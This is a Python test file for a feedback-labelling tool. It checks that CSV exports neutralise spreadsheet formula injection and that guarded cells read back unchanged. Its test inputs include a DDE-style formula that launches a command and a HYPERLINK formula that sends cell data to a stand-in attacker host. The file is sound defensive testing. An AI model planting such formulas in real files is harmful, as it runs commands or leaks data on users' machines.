"""Formulas in CSV: no cell of an export is run by a spreadsheet, and what is read again is the very text that was written."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rlhf import feedback, snapshots
from rlhf.feedback.formulas import bare, guarded, is_ours
from rlhf.records import Judgement, Message, Pair
from rlhf.store import Workspace

RUN = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r", "\n")
TEXTS = [
    *(f"{sign}1+cmd|'/c calc'!A0" for sign in RUN),
    '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "  =1+1",
    "\u00a0=1",
    "'=1",
    "''=1",
    "' =1",
    "'",
    "it's",
    "'quoted'",
    "-",
    "-1",
    "=",
    'a","=1',
    'a"\n=1',
    "a,=1",
    "x\r=1",
    "'\t",
    "",
    " ",
]
texts = st.text(st.sampled_from("=+-@＝＋－＠\t\r\n' \u00a0a,\"1"), max_size=8) | st.text(max_size=6)


@given(texts)
def test_what_is_guarded_is_bared_to_the_same_text(text: str) -> None:
    cell = guarded(text)
    assert bare(cell) == text
    assert not cell.startswith(RUN) and not cell.lstrip(" \u00a0").startswith(RUN)


@given(texts, texts)
def test_no_two_texts_are_written_alike(one: str, other: str) -> None:
    assert (guarded(one) == guarded(other)) == (one == other)


@pytest.mark.parametrize("text", TEXTS)
@pytest.mark.parametrize("name", ["out.csv", "out.csv.gz", "out.jsonl", "out.parquet"])
def test_an_export_of_any_note_imports_to_the_same_note(
    workspace: Workspace, tmp_path: Path, name: str, text: str
) -> None:
    """Labeler, cohort, source and note, each beginning with a formula or not; and seconds stay seconds."""
    labeler = text.strip()[:200] or None
    source = "".join(c for c in text if c.isprintable()).strip() or "s"
    pair = Pair.of([Message("user", text + "?")], text + "one", text + "two")
    said = Judgement(pair.id, "a", source, labeler, "simulated", 2, seconds=1.5, note=text, cohort=labeler)
    feedback.judge(workspace, said, pair=pair)
    counts = feedback.export(workspace, tmp_path / name)
    other = Workspace.create(tmp_path / "other", actor="tester")
    assert feedback.import_files(other, [counts["file"]]).accepted == 1
    with other.read() as connection:
        ((found, (kept,), _),) = feedback.read_pairs(connection)
    note = text if text.strip() else None  # a blank one is none
    assert (found, kept.note, kept.labeler, kept.cohort, kept.source) == (pair, note, labeler, labeler, source)
    assert (kept.strength, kept.seconds) == (2, 1.5)
    other.close()


def test_no_cell_of_any_csv_begins_a_formula(workspace: Workspace, tmp_path: Path) -> None:
    for number, text in enumerate(TEXTS):
        pair = Pair.of([Message("user", f"{text} {number}")], f"{text}one {number}", f"{text}two {number}")
        labeler = text.strip() or None
        feedback.judge(workspace, Judgement(pair.id, "a", "web", labeler, note=text, cohort=labeler), pair=pair)
    snapshots.cut(workspace, "all", holdout=0.2)
    feedback.export(workspace, tmp_path / "judgements.csv")
    snapshots.export(workspace, "all", tmp_path / "snapshot.csv")
    for name in ("judgements.csv", "snapshot.csv"):
        with open(tmp_path / name, newline="", encoding="utf-8") as file:
            cells = [cell for row in csv.reader(file) for cell in row]
        assert len(cells) > 9 * len(TEXTS)
        assert [cell for cell in cells if cell.lstrip(" \u00a0").startswith(RUN)] == [], name


def test_a_csv_of_somebody_elses_is_read_as_it_is(workspace: Workspace, tmp_path: Path) -> None:
    """An apostrophe before a formula is taken off where our exports put it, and nowhere else."""
    file = tmp_path / "votes.csv"
    file.write_text("prompt,a,b,labeler,vote,note\nq,x,y,'=ann,a,'=1\n", "utf-8")
    assert feedback.import_files(workspace, [file]).accepted == 1
    with workspace.read() as connection:
        ((_, (kept,), _),) = feedback.read_pairs(connection)
    assert (kept.labeler, kept.note) == ("'=ann", "'=1")
    assert is_ours(
        ["split", "prompt", "chosen", "rejected", "labeler", "source", "kind", "strength", "cohort", "consent"]
    )
    assert not is_ours(["prompt", "chosen", "rejected"])


def test_negative_numbers_stay_numbers(tmp_path: Path) -> None:
    from rlhf.feedback.preference_files import _cell

    assert (_cell(-3), _cell(-0.5), _cell("-3")) == (-3, -0.5, "'-3")
